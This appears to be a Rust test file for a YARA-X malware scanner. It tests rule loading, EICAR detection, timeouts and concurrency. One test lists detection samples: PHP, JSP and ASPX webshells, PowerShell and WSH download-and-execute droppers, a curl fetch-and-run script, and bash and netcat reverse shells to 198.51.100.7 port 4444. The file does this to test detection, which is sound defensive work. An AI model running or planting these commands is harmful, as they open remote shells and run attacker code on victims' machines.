use std::time::Duration;

use super::*;

use super::EICAR;

fn engine() -> Engine {
    Engine::new(
        RuleSet::embedded().expect("embedded rules load"),
        Duration::from_secs(10),
    )
}

fn matches(data: &[u8]) -> Vec<String> {
    let found = engine().scan_bytes(data).expect("scan succeeds");
    found.into_iter().map(|m| m.rule).collect()
}

#[test]
fn embedded_rules_load_with_an_identity() {
    let rules = RuleSet::embedded().unwrap();
    assert!(rules.len() >= 8, "{} rules", rules.len());
    assert_eq!(rules.id().len(), 12);
    assert!(rules.id().bytes().all(|b| b.is_ascii_hexdigit()));
    assert!(
        rules
            .describe()
            .iter()
            .all(|(_, description)| description.is_some()),
        "every rule has a description"
    );
}

#[test]
fn eicar_is_detected_with_and_without_trailing_whitespace() {
    assert_eq!(matches(EICAR.as_bytes()), ["EICAR_Test_File"]);
    assert_eq!(
        matches(format!("{EICAR}\r\n").as_bytes()),
        ["EICAR_Test_File"]
    );
    // Not at the start, or inside a large file: not the test file.
    assert!(matches(format!("x{EICAR}").as_bytes()).is_empty());
    assert!(matches(format!("{EICAR}{}", " ".repeat(100)).as_bytes()).is_empty());
}

/// Each project rule fires on a sample of what it describes.
#[test]
fn each_rule_detects_its_sample() {
    let samples: &[(&str, &str)] = &[
        (
            "Webshell_PHP_Request_Eval",
            "<?php @eval($_POST['cmd']); ?>",
        ),
        (
            "Webshell_PHP_Request_Eval",
            "<?php system(base64_decode($_GET[\"c\"])); ?>",
        ),
        (
            "Webshell_PHP_Obfuscated_Loader",
            "<?php eval(gzinflate(base64_decode('7X1re9s2svB3/wqE0a6kRpIl+ZLEipzjOk7j')));",
        ),
        (
            "Webshell_JSP_Runtime_Exec",
            "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
        ),
        (
            "Webshell_ASPX_Process_Start",
            "<%@ Page Language=\"C#\" %><% var p = System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]); %>",
        ),
        (
            "Dropper_PowerShell_Download_Cradle",
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
        ),
        (
            "Dropper_PowerShell_Download_Cradle",
            "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/a')\"",
        ),
        (
            "Dropper_PowerShell_Hidden_Encoded",
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        ),
        (
            "Dropper_WSH_Download_Execute",
            "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", u, False\nSet s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile p, 2\nCreateObject(\"WScript.Shell\").Run p",
        ),
        (
            "Dropper_Unix_Fetch_And_Run",
            "#!/bin/sh\ncurl -s http://198.51.100.7/x -o /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x &\n",
        ),
        (
            "Reverse_Shell_Unix",
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        ),
        (
            "Reverse_Shell_Unix",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
        ),
        (
            "Encoded_PE_In_Text",
            "<html><script>var b = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA';</script></html>",
        ),
    ];
    for (rule, sample) in samples {
        let found = matches(sample.as_bytes());
        assert!(
            found.iter().any(|r| r == rule),
            "{rule} did not match {sample:?}: {found:?}"
        );
    }
}

#[test]
fn office_macro_rule_needs_ole_auto_exec_and_an_action() {
    let mut doc = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    doc.extend_from_slice(&[0; 504]);
    doc.extend_from_slice(b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\n  Shell(\"cmd /c calc\")\nEnd Sub\nVBA");
    assert_eq!(matches(&doc), ["Office_Macro_AutoExec_Shell"]);
    let benign: Vec<u8> = doc[..512].to_vec();
    assert!(matches(&benign).is_empty());
}

/// Ordinary content of the same kinds does not match any rule.
#[test]
fn benign_samples_are_clean() {
    let samples: &[&str] = &[
        "",
        "hello world\n",
        "<?php echo htmlspecialchars($_GET['name']); ?>",
        "<?php $x = eval('return 1;'); ?>",
        "Get-ChildItem -Path C:\\ | Invoke-Expression",
        "Invoke-WebRequest -Uri https://example.com -OutFile a.zip",
        // Documented installers (Boxstarter in Node.js's BUILDING.md, a cloud agent's setup in
        // a YAML file): a cradle over HTTPS to a named host, with no sign of intent.
        "Set-ExecutionPolicy Unrestricted -Force\niex ((New-Object System.Net.WebClient).DownloadString('https://boxstarter.org/bootstrapper.ps1'))",
        "script: '(New-Object Net.WebClient).DownloadFile(\"https://dl.example.com/add-repo.ps1\", \"$env:UserProfile\\add-repo.ps1\"); Invoke-Expression \"$env:UserProfile\\add-repo.ps1 -AlsoInstall\";'",
        "#!/bin/sh\ncurl -o /tmp/x.tar.gz https://example.com/x.tar.gz\ntar xzf /tmp/x.tar.gz\n",
        "bash -i",
        "This program cannot be run in DOS mode",
        "<%@ Page Language=\"C#\" %><p>Request.Form[\"x\"]</p>",
    ];
    for sample in samples {
        assert!(matches(sample.as_bytes()).is_empty(), "{sample:?} matched");
    }
}

#[test]
fn serialized_rules_round_trip_with_a_content_identity() {
    let rules = yara_x::compile("rule always { condition: true }").unwrap();
    let bytes = rules.serialize().unwrap();
    let set = RuleSet::from_serialized(&bytes).unwrap();
    assert_eq!(set.len(), 1);
    assert_eq!(set.id(), RuleSet::from_serialized(&bytes).unwrap().id());
    let engine = Engine::new(set, Duration::from_secs(5));
    assert_eq!(Match::names(&engine.scan_bytes(b"x").unwrap()), ["always"]);
    assert!(matches!(
        RuleSet::from_serialized(b"junk"),
        Err(ScanError::Load(_))
    ));
}

#[test]
fn a_scan_over_its_timeout_is_an_error_not_clean() {
    // A condition that loops over every byte many times: far longer than a 1 s timeout.
    let slow = yara_x::compile(
        "rule slow { condition: for all i in (0..filesize): (for all j in (0..filesize): (uint8(i) != 0xff or uint8(j) != 0xfe)) }",
    )
    .unwrap();
    let engine = Engine::new(RuleSet::new(slow, "slow"), Duration::from_secs(1));
    let started = std::time::Instant::now();
    let result = engine.scan_bytes(&vec![0u8; 200_000]);
    assert!(matches!(result, Err(ScanError::Timeout(_))), "{result:?}");
    assert!(started.elapsed() < Duration::from_secs(5));
}

/// On a single-threaded runtime, other tasks keep running while a long scan is under way:
/// the scan is on the blocking pool, not on the runtime's thread.
#[tokio::test(flavor = "current_thread")]
async fn async_scan_runs_off_the_runtime_threads() {
    let slow = yara_x::compile(
        "rule slow { condition: for all i in (0..filesize): (for all j in (0..filesize): (uint8(i) != 0xff or uint8(j) != 0xfe)) }",
    )
    .unwrap();
    let engine = Engine::new(RuleSet::new(slow, "slow"), Duration::from_millis(500));
    let ticks = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = ticks.clone();
    let ticker = tokio::spawn(async move {
        loop {
            tokio::time::sleep(Duration::from_millis(10)).await;
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });
    let result = scan_on_a_slot(&engine, vec![0u8; 200_000]).await;
    ticker.abort();
    assert!(matches!(result, Err(ScanError::Timeout(_))), "{result:?}");
    assert!(ticks.load(std::sync::atomic::Ordering::SeqCst) >= 10);
    assert_eq!(engine_found_eicar().await, ["EICAR_Test_File"]);
}

/// `data` scanned on the blocking pool once a slot is free, as an object's inspection is
/// (`inspect::inspect_async`).
async fn scan_on_a_slot(engine: &Engine, data: Vec<u8>) -> Result<Vec<Match>, ScanError> {
    let scanner = engine.clone();
    engine.on_a_slot(move || scanner.scan_bytes(&data)).await?
}

async fn engine_found_eicar() -> Vec<String> {
    let found = scan_on_a_slot(&engine(), EICAR.as_bytes().to_vec())
        .await
        .unwrap();
    found.into_iter().map(|m| m.rule).collect()
}

/// One thread's scanner is reused across objects and rule sets stay apart: results never
/// leak from one scan or one rule set into another, and a timed-out scanner is replaced.
#[test]
fn reused_scanners_keep_scans_and_rule_sets_apart() {
    let a = engine();
    let b = Engine::new(
        RuleSet::new(
            yara_x::compile(r#"rule Only_B { strings: $b = "bbb" condition: $b }"#).unwrap(),
            "b",
        ),
        Duration::from_secs(5),
    );
    for _ in 0..3 {
        assert_eq!(
            Match::names(&a.scan_bytes(EICAR.as_bytes()).unwrap()),
            ["EICAR_Test_File"]
        );
        assert!(a.scan_bytes(b"clean").unwrap().is_empty());
        assert_eq!(Match::names(&b.scan_bytes(b"xbbbx").unwrap()), ["Only_B"]);
        assert!(b.scan_bytes(EICAR.as_bytes()).unwrap().is_empty());
    }
    let slow = yara_x::compile(
        "rule slow { condition: for all i in (0..filesize-1): (for all j in (0..filesize-1): (uint8(i) != 0xff or uint8(j) != 0xfe)) }",
    )
    .unwrap();
    let slow = Engine::new(RuleSet::new(slow, "slow"), Duration::from_secs(1));
    assert!(matches!(
        slow.scan_bytes(&vec![0u8; 200_000]),
        Err(ScanError::Timeout(_))
    ));
    assert_eq!(Match::names(&slow.scan_bytes(b"tiny").unwrap()), ["slow"]);
}

/// Rules replaced (a reload, a feed update's canary round) are freed: once no `RuleSet` holds
/// them, the thread's next scan drops its scanner for them, and the rules with it.
#[test]
fn rules_no_longer_held_are_freed_with_their_scanners() {
    // Each test runs on its own thread, so its scanners are its own.
    let compile = |name: &str| {
        let source = format!(r#"rule {name} {{ strings: $a = "{name}" condition: $a }}"#);
        RuleSet::new(yara_x::compile(source.as_str()).unwrap(), name)
    };
    let old = compile("Old_Rule");
    let freed = Arc::downgrade(&old.rules);
    let engine = Engine::new(old.clone(), Duration::from_secs(5));
    assert_eq!(
        Match::names(&engine.scan_bytes(b"Old_Rule").unwrap()),
        ["Old_Rule"]
    );
    assert_eq!(scanners::kept(), 1);

    engine.swap(RuleSets::new(vec![compile("New_Rule")]));
    assert!(freed.upgrade().is_some(), "still held by `old`");
    drop(old);
    assert!(
        freed.upgrade().is_some(),
        "the thread's scanner keeps them until its next scan"
    );
    assert_eq!(
        Match::names(&engine.scan_bytes(b"New_Rule").unwrap()),
        ["New_Rule"]
    );
    assert!(freed.upgrade().is_none(), "the old rules are freed");
    assert_eq!(scanners::kept(), 1);
}

/// No more scans run at once than there are vCPUs: a scan waits while every slot is taken,
/// its timeout not yet running, and goes on once one is given back.
#[tokio::test]
async fn scans_wait_for_a_slot_when_every_vcpu_is_scanning() {
    let engine = Engine::new(
        RuleSet::embedded().expect("embedded rules load"),
        Duration::from_millis(200),
    );
    let vcpus = std::thread::available_parallelism().map_or(1, |n| n.get());
    let mut taken = Vec::new();
    for _ in 0..vcpus {
        taken.push(engine.slot().await.unwrap());
    }
    let pending = tokio::spawn({
        let engine = engine.clone();
        async move { scan_on_a_slot(&engine, EICAR.as_bytes().to_vec()).await }
    });
    tokio::time::sleep(Duration::from_millis(400)).await;
    assert!(!pending.is_finished(), "a scan ran without a slot");
    taken.pop();
    // It waited twice its timeout for the slot, yet scanned in full: the clock starts then.
    let found = pending.await.unwrap().unwrap();
    assert_eq!(Match::names(&found), ["EICAR_Test_File"]);
}
